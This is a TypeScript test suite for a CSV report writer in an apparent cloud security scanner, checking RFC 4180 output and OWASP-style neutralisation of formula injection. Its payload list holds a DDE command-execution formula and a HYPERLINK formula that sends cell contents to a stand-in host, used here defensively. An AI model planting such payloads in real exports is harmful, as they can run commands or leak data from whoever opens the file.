// The CSV writer: strict RFC 4180 (checked by a small grammar walker below, then parsed back with
// csv-parse), one row per finding in input order, every cell round-tripping except that cells
// beginning with a formula trigger carry OWASP's leading single quote, and an atomic, streamed write.
import assert from 'node:assert/strict';
import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { CSV_COLUMNS, flattenCompliance, writeCsvReport } from '../../reports/csv/csv-report.js';
import type { ReportInput } from '../../reports/report-input.js';
import { SEVERITIES, STATUSES, type Finding } from '../../runner/findings/finding.js';
import { makeTmp, removeTmp } from '../cli/harness.js';
import { sampleReportInput } from '../helpers/sample-findings.js';

const FORMULA_PAYLOADS = ["=cmd|' /C calc'!A0", '+1', '-1+1', '@SUM(1)', '\t=1', '\r=1', '=HYPERLINK("http://x.example/?"&A1,"click")', '\uFF1D1+1'];

/** OWASP: a cell starting with = + - @ tab or CR (or their full-width forms) gets a leading '. */
function neutralised(cell: string): string {
  return cell !== '' && '=+-@\t\r\uFF1D\uFF0B\uFF0D\uFF20'.includes(cell[0]) ? `'${cell}` : cell;
}

/** The cells the writer is given for a finding, before neutralisation. */
function expectedCells(f: Finding): string[] {
  return [
    f.id,
    f.account_id,
    f.region,
    f.check_id,
    f.title,
    f.service,
    f.severity,
    f.status,
    String(f.muted),
    f.mute_reason ?? '',
    f.resource.type,
    f.resource.id,
    f.resource.arn ?? '',
    f.resource.name ?? '',
    f.message,
    f.remediation.text,
    f.remediation.url ?? '',
    flattenCompliance(f.compliance),
    JSON.stringify(f.evidence),
  ].map(neutralised);
}

/**
 * Walks the text with RFC 4180's grammar and returns the record count: records end in CRLF (also
 * the last), a quote may only open a field or, doubled, appear inside a quoted one, and a bare CR
 * or LF outside quotes is an error.
 */
function assertRfc4180(text: string, columns: number): number {
  let records = 0;
  let fields = 1;
  let i = 0;
  let fieldStart = true;
  while (i < text.length) {
    const c = text[i];
    if (fieldStart && c === '"') {
      i++;
      for (;;) {
        assert.ok(i < text.length, 'unterminated quoted field');
        if (text[i] === '"') {
          if (text[i + 1] === '"') i += 2;
          else break;
        } else i++;
      }
      i++; // closing quote
      assert.ok(i === text.length || text[i] === ',' || text.startsWith('\r\n', i), `text after a closing quote at ${i}`);
      fieldStart = false;
      continue;
    }
    if (c === ',') {
      fields++;
      fieldStart = true;
      i++;
    } else if (c === '\r' && text[i + 1] === '\n') {
      assert.equal(fields, columns, `record ${records + 1} has ${fields} fields`);
      records++;
      fields = 1;
      fieldStart = true;
      i += 2;
    } else {
      assert.ok(c !== '"' && c !== '\r' && c !== '\n', `unquoted ${JSON.stringify(c)} at ${i}`);
      fieldStart = false;
      i++;
    }
  }
  assert.ok(text === '' || text.endsWith('\r\n'), 'the last record ends in CRLF');
  return records;
}

function withFindings(findings: Finding[]): ReportInput {
  const base = sampleReportInput(0);
  return { ...base, result: { ...base.result, findings } };
}

function baseFinding(): Finding {
  const f = sampleReportInput(40, { credentialUsers: 0, mutedEvery: 0 }).result.findings.find((x) => x.status === 'FAIL' && x.resource.arn !== null && x.resource.name !== null);
  assert.ok(f);
  return structuredClone(f);
}

describe('CSV report writer', () => {
  let tmp: string;
  beforeEach(() => {
    tmp = makeTmp('qready-csv-');
  });
  afterEach(() => removeTmp(tmp));

  async function writeAndParse(inp: ReportInput, name = 'report.csv'): Promise<{ text: string; rows: string[][] }> {
    const file = join(tmp, name);
    await writeCsvReport(inp, file);
    const text = readFileSync(file, 'utf8');
    const records = assertRfc4180(text, CSV_COLUMNS.length);
    const rows = parse(text, { bom: false, relax_quotes: false, relax_column_count: false, skip_empty_lines: false }) as string[][];
    assert.equal(rows.length, records);
    assert.deepEqual(rows[0], [...CSV_COLUMNS]);
    return { text, rows: rows.slice(1) };
  }

  it('writes a header and one row per finding, in input order, every cell round-tripping', async () => {
    const inp = sampleReportInput(1000, { xss: true });
    const { text, rows } = await writeAndParse(inp);
    assert.ok(text.startsWith('finding_id,account_id,region,check_id,title,service,severity,status,muted,mute_reason,resource_type,resource_id,resource_arn,resource_name,message,remediation_text,remediation_url,compliance,evidence\r\n'));
    assert.equal(rows.length, 1000);
    inp.result.findings.forEach((f, k) => assert.deepEqual(rows[k], expectedCells(f), `row ${k}`));
  });

  it('writes every status, severity and muted state as it is', async () => {
    const findings: Finding[] = [];
    for (const status of STATUSES) {
      for (const severity of SEVERITIES) {
        for (const muted of [false, true]) {
          const f = baseFinding();
          f.id = String(findings.length).padStart(40, '0');
          Object.assign(f, { status, severity, muted, mute_reason: muted ? `sandbox, ticket "SEC-${findings.length}"` : null });
          findings.push(f);
        }
      }
    }
    const { rows } = await writeAndParse(withFindings(findings));
    const col = (name: (typeof CSV_COLUMNS)[number]): number => CSV_COLUMNS.indexOf(name);
    assert.deepEqual(
      rows.map((r) => [r[col('status')], r[col('severity')], r[col('muted')], r[col('mute_reason')]]),
      findings.map((f) => [f.status, f.severity, f.muted ? 'true' : 'false', f.mute_reason ?? '']),
    );
  });

  it('neutralises cells that begin with =, +, -, @, tab or CR in every column (OWASP: leading single quote)', async () => {
    const findings = FORMULA_PAYLOADS.map((payload, k) => {
      const f = baseFinding();
      f.id = String(k).padStart(40, '0');
      f.message = payload;
      f.title = payload;
      f.mute_reason = payload;
      f.muted = true;
      f.resource = { type: 'AwsIamUser', id: payload, arn: payload, name: payload };
      f.remediation = { text: payload, url: payload };
      f.region = payload;
      return f;
    });
    const { rows } = await writeAndParse(withFindings(findings));
    rows.forEach((r, k) => {
      const payload = FORMULA_PAYLOADS[k];
      for (const name of ['message', 'title', 'mute_reason', 'resource_id', 'resource_arn', 'resource_name', 'remediation_text', 'remediation_url', 'region'] as const) {
        assert.equal(r[CSV_COLUMNS.indexOf(name)], `'${payload}`, `${name} of ${JSON.stringify(payload)}`);
      }
      assert.deepEqual(r, expectedCells(findings[k]));
    });
    // No parsed cell starts with a trigger character any more.
    for (const r of rows) for (const cell of r) assert.ok(!'=+-@\t\r'.includes(cell[0] ?? 'x'), JSON.stringify(cell));
  });

  it('leaves cells alone that only contain a trigger character later on', async () => {
    const f = baseFinding();
    f.message = 'a=b, 1-2 +3 user@example.com \t=x';
    f.resource = { ...f.resource, name: ' =1' };
    const { rows } = await writeAndParse(withFindings([f]));
    assert.equal(rows[0][CSV_COLUMNS.indexOf('message')], f.message);
    assert.equal(rows[0][CSV_COLUMNS.indexOf('resource_name')], ' =1');
  });

  it('quotes commas, quotes, CR, LF and CRLF in cells and round-trips unicode', async () => {
    const f = baseFinding();
    f.message = 'He said "stop", then\nleft\r\nagain\rand; ü ß 漢字 😀 \u2028\u2029 \u0000\u0007 end';
    f.resource = { ...f.resource, name: 'only\nLF' };
    f.mute_reason = 'only\rCR';
    f.muted = true;
    f.evidence = { note: 'a "quoted", multi\nline value', list: ['😀', 'x,y'] };
    const { text, rows } = await writeAndParse(withFindings([f]));
    assert.ok(text.includes('"He said ""stop"", then\nleft\r\nagain\rand; ü ß 漢字 😀 \u2028\u2029 \u0000\u0007 end"'));
    assert.ok(text.includes('"only\nLF"'));
    assert.ok(text.includes('"only\rCR"'));
    assert.deepEqual(rows[0], expectedCells(f));
    assert.deepEqual(JSON.parse(rows[0][CSV_COLUMNS.indexOf('evidence')]), f.evidence);
  });

  it('flattens compliance as "framework: req, req | framework: req"', async () => {
    assert.equal(flattenCompliance({ 'cis_aws_3.0': ['1.10'], aws_fsbp: ['IAM.5'] }), 'cis_aws_3.0: 1.10 | aws_fsbp: IAM.5');
    assert.equal(flattenCompliance({ 'cis_aws_3.0': ['1.10', '1.11'], 'cis_aws_5.0': ['1.9'] }), 'cis_aws_3.0: 1.10, 1.11 | cis_aws_5.0: 1.9');
    assert.equal(flattenCompliance({}), '');
    const f = baseFinding();
    f.compliance = { 'cis_aws_3.0': ['1.10', '1.11'], aws_fsbp: ['IAM.5'] };
    const { rows } = await writeAndParse(withFindings([f]));
    assert.equal(rows[0][CSV_COLUMNS.indexOf('compliance')], 'cis_aws_3.0: 1.10, 1.11 | aws_fsbp: IAM.5');
  });

  it('writes evidence as compact JSON and null ARN, name and mute reason as empty cells', async () => {
    const f = baseFinding();
    f.resource = { type: 'AwsQBusinessApplication', id: 'app-1', arn: null, name: null };
    f.remediation = { text: 'Fix it.' };
    f.evidence = { a: 1, b: [true, null], c: { d: 'e' } };
    const { rows } = await writeAndParse(withFindings([f]));
    const r = rows[0];
    assert.equal(r[CSV_COLUMNS.indexOf('evidence')], '{"a":1,"b":[true,null],"c":{"d":"e"}}');
    assert.equal(r[CSV_COLUMNS.indexOf('resource_arn')], '');
    assert.equal(r[CSV_COLUMNS.indexOf('resource_name')], '');
    assert.equal(r[CSV_COLUMNS.indexOf('mute_reason')], '');
    assert.equal(r[CSV_COLUMNS.indexOf('remediation_url')], '');
  });

  it('handles 0 findings: the header row only', async () => {
    const { text, rows } = await writeAndParse(withFindings([]));
    assert.deepEqual(rows, []);
    assert.equal(text, `${CSV_COLUMNS.join(',')}\r\n`);
  });

  it('leaves no temporary file and overwrites an existing report', async () => {
    const file = join(tmp, 'qready-123456789012-20260301120000.csv');
    writeFileSync(file, 'previous report');
    await writeCsvReport(sampleReportInput(600), file);
    assert.deepEqual(readdirSync(tmp), ['qready-123456789012-20260301120000.csv']);
    assert.equal(assertRfc4180(readFileSync(file, 'utf8'), CSV_COLUMNS.length), 601);
  });

  it('rejects when the target cannot be replaced, leaving no temporary file', async () => {
    const target = join(tmp, 'report.csv');
    mkdirSync(target);
    await assert.rejects(writeCsvReport(sampleReportInput(300), target));
    assert.deepEqual(readdirSync(tmp), ['report.csv']);
    assert.deepEqual(readdirSync(target), []);
  });
});
